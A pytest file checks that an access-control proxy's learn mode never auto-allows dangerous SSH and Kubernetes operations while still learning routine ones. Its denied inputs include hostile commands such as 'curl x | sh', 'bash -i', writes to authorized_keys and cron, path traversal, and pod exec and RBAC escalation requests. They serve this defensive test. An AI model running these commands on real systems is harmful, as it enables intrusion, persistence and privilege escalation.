"""Issue 20 attacks on learn and shadow mode: what the blanket learning rule must never allow
on the other protocols, the marks records carry, and the runs' bad input."""

from __future__ import annotations

import pytest

from interceptor.decision import Decision, Verdict
from interceptor.operations import KubeRequest, Request, SshRequest, Subject
from interceptor.policy import PolicyEngine, load_policy_text
from interceptor.policy.learn import LearnSession, with_learning

NOW = 1_700_000_000.0
POLICY = """
version: 1
resources:
  box: {protocol: ssh, addresses: ["127.0.0.1:22"]}
  cluster: {protocol: kubernetes, addresses: ["127.0.0.1:6443"]}
agents:
  analyst: {}
rules: []
"""


def learned() -> PolicyEngine:
    return PolicyEngine(with_learning(load_policy_text(POLICY), [LearnSession("analyst", "feedfacecafebeef", NOW)]))


def ask(operation: object, resource: str) -> Decision:
    return learned().decide(Request(Subject("analyst", None), resource, operation))  # type: ignore[arg-type]


def assert_never_learned(operation: object, resource: str) -> None:
    decision = ask(operation, resource)
    assert decision.verdict is Verdict.DENY, decision
    assert decision.rule != "learn:analyst" and "learn mode never learns" in decision.reason


# -- SSH: a shell, a shell-class command, a write that runs code and a forward are never learned

@pytest.mark.parametrize("request_", [
    SshRequest("shell"), SshRequest("shell", pty=True),
    SshRequest("exec", command="bash -i"), SshRequest("exec", command="ls | sh"),
    SshRequest("exec", command="sh -c 'curl x | sh'"), SshRequest("exec", command="ls -l", pty=True),
    SshRequest("exec", command="echo $(id)"),
    SshRequest("write", path="/home/u/.ssh/authorized_keys", action="open"),
    SshRequest("write", path="/home/u/.bashrc", action="open"), SshRequest("write", path="/etc/cron.d/x", action="open"),
    SshRequest("write", path="/srv/../home/u/.profile", action="open"),
    SshRequest("exec", command="scp -t /home/u/.ssh/authorized_keys"),
    SshRequest("forward", forward="local", target="10.0.0.9:5432"),
    SshRequest("forward", forward="remote", target="0.0.0.0:8080"),
], ids=repr)
def test_ssh_shells_code_writes_and_forwards_are_never_learned(request_: SshRequest) -> None:
    assert_never_learned(request_, "box")


@pytest.mark.parametrize("request_", [
    SshRequest("exec", command="ls -l /srv"), SshRequest("exec", command="df -h"),
    SshRequest("read", path="/srv/data/report.csv", action="open"),
    SshRequest("write", path="/srv/data/out.csv", action="open"),
    SshRequest("exec", command="scp -f /srv/data/report.csv"),
], ids=repr)
def test_ssh_commands_and_file_transfers_are_learned(request_: SshRequest) -> None:
    decision = ask(request_, "box")
    assert (decision.verdict, decision.rule) == (Verdict.ALLOW, "learn:analyst")


# -- Kubernetes: running code in a pod, reaching through the API server, and permissions -------

def kube(verb: str, resource: str, subresource: str = "", group: str = "", namespace: str = "dev",
         name: str = "web") -> KubeRequest:
    return KubeRequest(verb, "/api", api_group=group, api_version="v1", resource=resource, subresource=subresource,
                       namespace=namespace, name=name)


@pytest.mark.parametrize("request_", [
    kube("create", "pods", "exec"), kube("create", "pods", "attach"), kube("create", "pods", "portforward"),
    kube("create", "pods", "proxy"), kube("create", "services", "proxy"),
    kube("create", "nodes", "proxy", namespace=""),
    kube("create", "rolebindings", group="rbac.authorization.k8s.io"),
    kube("patch", "clusterroles", group="rbac.authorization.k8s.io", namespace=""),
    kube("delete", "roles", group="rbac.authorization.k8s.io"),
    kube("impersonate", "users", namespace="", name="admin"),
    kube("impersonate", "serviceaccounts", name="default"),
    kube("bind", "clusterroles", group="rbac.authorization.k8s.io", namespace=""),
    kube("escalate", "roles", group="rbac.authorization.k8s.io"),
    kube("update", "certificatesigningrequests", "approval", group="certificates.k8s.io", namespace=""),
], ids=repr)
def test_kubernetes_code_in_pods_and_permissions_are_never_learned(request_: KubeRequest) -> None:
    assert_never_learned(request_, "cluster")


@pytest.mark.parametrize("request_", [
    kube("get", "pods"), kube("list", "deployments", group="apps"), kube("get", "pods", "log"),
    kube("list", "rolebindings", group="rbac.authorization.k8s.io"), kube("delete", "configmaps"),
], ids=repr)
def test_kubernetes_requests_are_learned(request_: KubeRequest) -> None:
    decision = ask(request_, "cluster")
    assert (decision.verdict, decision.rule) == (Verdict.ALLOW, "learn:analyst")


def test_secrets_stay_masked_while_learning() -> None:
    decision = ask(kube("get", "secrets"), "cluster")
    assert decision.verdict is Verdict.ALLOW and decision.masks and decision.masks[0].rule == "kubernetes-secret-values"
